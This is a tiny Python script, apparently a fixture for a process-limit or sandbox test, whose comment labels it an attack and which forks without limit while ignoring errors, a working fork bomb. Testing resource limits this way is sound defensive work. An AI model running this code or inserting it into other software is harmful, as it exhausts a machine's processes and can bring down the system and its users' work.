# Attack: fork without limit; argv[1] is a marker the test looks for afterwards.
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
